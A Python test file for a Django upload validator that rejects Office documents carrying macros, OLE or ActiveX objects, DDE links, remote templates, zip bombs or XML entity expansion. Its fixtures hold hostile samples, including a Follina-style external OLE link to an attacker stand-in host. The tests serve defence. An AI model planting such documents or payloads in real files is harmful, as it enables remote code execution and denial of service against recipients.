"""DOCX and XLSX evidence: refused when Word or Excel would fetch, run or embed something; bounded."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from seguimiento.archivos import DOCX, XLSX, revisar_archivo
from seguimiento.tests.conftest import (
    RELACION_OFFICE,
    RELACIONES_OPC,
    bytes_docx,
    bytes_xlsx,
    subida,
)

MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"


def error_de(contenido, nombre="informe.docx"):
    with pytest.raises(ValidationError) as error:
        revisar_archivo(subida(nombre, contenido))
    error = error.value.error_list[0]
    return error.code, error.message % error.params


def relacion(tipo, destino, externa=True, id_="rId9"):
    modo = ' TargetMode="External"' if externa else ""
    return f'<Relationship Id="{id_}" Type="{tipo}" Target="{destino}"{modo}/>'


def xlsx_con(miembros_extra=None, tipos_extra=""):
    """The openpyxl workbook with parts added, and its [Content_Types].xml extended."""
    entrada = zipfile.ZipFile(io.BytesIO(bytes_xlsx()))
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w", zipfile.ZIP_DEFLATED) as nuevo:
        for nombre in entrada.namelist():
            datos = entrada.read(nombre)
            if nombre == "[Content_Types].xml":
                datos = datos.replace(b"</Types>", tipos_extra.encode() + b"</Types>")
            nuevo.writestr(nombre, datos)
        for nombre, datos in (miembros_extra or {}).items():
            nuevo.writestr(nombre, datos)
    return salida.getvalue()


# --- Findings of the security test ---------------------------------------------------------------


def test_rechaza_objeto_ole_externo_como_en_follina():
    docx = bytes_docx(relaciones=relacion(f"{RELACION_OFFICE}/oleObject", "http://atacante.example/x.html!"))
    codigo, mensaje = error_de(docx)
    assert codigo == "objetos_activos"
    assert "«informe.docx» contiene objetos incrustados (OLE)" in mensaje


def test_rechaza_plantilla_adjunta_en_una_carpeta_de_red():
    docx = bytes_docx(
        extra={
            "word/settings.xml": '<w:settings><w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="{RELACIONES_OPC}">'
            + relacion(f"{RELACION_OFFICE}/attachedTemplate", "file://servidor/compartida/t.dotm", id_="rId1")
            + "</Relationships>",
        }
    )
    codigo, mensaje = error_de(docx)
    assert codigo == "plantilla"
    assert "file://servidor/compartida/t.dotm" in mensaje


def test_rechaza_macros_en_una_parte_renombrada_por_su_tipo_de_contenido():
    # The VBA project under an innocent name: only its declared content type gives it away.
    docx = bytes_docx(
        extra={"word/estilos2.xml": b"\xcc\x61\x00\x00"},
        tipos='<Override PartName="/word/estilos2.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    codigo, mensaje = error_de(docx)
    assert codigo == "macros"
    assert "«informe.docx» contiene macros" in mensaje


# --- Every refusal ------------------------------------------------------------------------------


RECHAZOS = [
    (
        "proyecto VBA con su nombre de siempre",
        bytes_docx(
            extra={"word/vbaProject.bin": b"\xcc\x61"},
            tipos='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            relaciones=relacion(f"{MICROSOFT}/vbaProject", "vbaProject.bin", externa=False),
        ),
        "macros",
    ),
    (
        "documento con macros (.docm) renombrado",
        bytes_docx(
            tipos='<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
        "macros",
    ),
    (
        "hoja de macros de Excel 4 (XLM)",
        xlsx_con(
            {"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"},
            '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        ),
        "macros",
    ),
    (
        "control ActiveX",
        bytes_docx(
            extra={"word/activeX/activeX1.xml": "<ax:ocx/>"},
            tipos='<Override PartName="/word/activeX/activeX1.xml" '
            'ContentType="application/vnd.ms-office.activeX+xml"/>',
        ),
        "objetos_activos",
    ),
    (
        "objeto OLE incrustado",
        bytes_docx(
            extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
            tipos='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        ),
        "objetos_activos",
    ),
    (
        "vínculo a otro libro (DDE) en Excel",
        xlsx_con(
            {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
        ),
        "objetos_activos",
    ),
    (
        "imagen vinculada a una carpeta de red",
        bytes_docx(relaciones=relacion(f"{RELACION_OFFICE}/image", "\\\\servidor\\fotos\\a.png")),
        "vinculo_externo",
    ),
    (
        "hipervínculo",
        bytes_docx(relaciones=relacion(f"{RELACION_OFFICE}/hyperlink", "https://candelaria.gov.co")),
        "vinculo_externo",
    ),
    (
        "vínculo externo en las relaciones del paquete",
        bytes_docx(
            extra={
                "_rels/.rels": f'<Relationships xmlns="{RELACIONES_OPC}">'
                + relacion(f"{RELACION_OFFICE}/officeDocument", "word/document.xml", externa=False, id_="rId1")
                + relacion(f"{RELACION_OFFICE}/customXml", "https://atacante.example/c.xml", id_="rId2")
                + "</Relationships>"
            }
        ),
        "vinculo_externo",
    ),
]


@pytest.mark.parametrize(("descripcion", "contenido", "codigo"), RECHAZOS, ids=[caso[0] for caso in RECHAZOS])
def test_rechaza(descripcion, contenido, codigo):
    nombre = "libro.xlsx" if "Excel" in descripcion else "informe.docx"
    assert error_de(contenido, nombre)[0] == codigo, descripcion


def test_el_mensaje_del_vinculo_externo_dice_como_quitarlo():
    _codigo, mensaje = error_de(
        bytes_docx(relaciones=relacion(f"{RELACION_OFFICE}/hyperlink", "https://candelaria.gov.co"))
    )
    assert "tiene un vínculo externo (https://candelaria.gov.co)" in mensaje
    assert "Ctrl+Mayús+F9" in mensaje


def test_acepta_documentos_sin_nada_de_eso():
    assert revisar_archivo(subida("informe.docx", bytes_docx())).tipo == DOCX
    interno = relacion(f"{RELACION_OFFICE}/image", "media/foto.png", externa=False)
    docx = bytes_docx(
        extra={"word/media/foto.png": b"\x89PNG"},
        tipos='<Default Extension="png" ContentType="image/png"/>',
        relaciones=interno,
    )
    assert revisar_archivo(subida("informe.docx", docx)).tipo == DOCX
    assert revisar_archivo(subida("asistencia.xlsx", bytes_xlsx())).tipo == XLSX


# --- Bounds and broken packages -----------------------------------------------------------------


def test_el_tamano_descomprimido_declarado_esta_acotado(settings):
    settings.ARCHIVO_MAX_DESCOMPRIMIDO = 50_000
    docx = bytes_docx(extra={"word/media/relleno.bin": b"\x00" * 60_000})
    assert len(docx) < 5_000  # 60 KB of zeros compress to almost nothing
    codigo, mensaje = error_de(docx)
    assert codigo == "descomprimido"
    assert "ocupa más de 48,8\xa0KB al descomprimirlo" in mensaje


def test_el_limite_por_defecto_deja_pasar_un_libro_real_y_para_una_bomba(settings):
    assert settings.ARCHIVO_MAX_DESCOMPRIMIDO == 200 * 1024 * 1024
    bomba = io.BytesIO()
    with zipfile.ZipFile(bomba, "w", zipfile.ZIP_DEFLATED) as comprimido:
        comprimido.writestr("[Content_Types].xml", "<Types/>")
        comprimido.writestr("word/document.xml", "<w:document/>")
        with comprimido.open("word/media/relleno.bin", "w", force_zip64=True) as parte:
            for _megabyte in range(210):
                parte.write(bytes(1024 * 1024))
    assert len(bomba.getvalue()) < 300_000
    assert error_de(bomba.getvalue())[0] == "descomprimido"


def test_demasiadas_partes(monkeypatch):
    monkeypatch.setattr("seguimiento.formatos.office.MAX_MIEMBROS", 10)
    docx = bytes_docx(extra={f"word/media/{n}.png": b"x" for n in range(10)})
    codigo, mensaje = error_de(docx)
    assert codigo == "demasiadas_partes"
    assert "tiene 14 partes internas" in mensaje


@pytest.mark.parametrize(
    "tipos",
    [
        "<Types><Default",  # cut
        '<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><Types>&b;</Types>',  # entities
    ],
    ids=["xml cortado", "entidades xml"],
)
def test_tipos_de_contenido_ilegibles_o_con_entidades_se_rechazan_como_danados(tipos):
    docx = bytes_docx(extra={"[Content_Types].xml": tipos})
    assert error_de(docx)[0] == "danado"
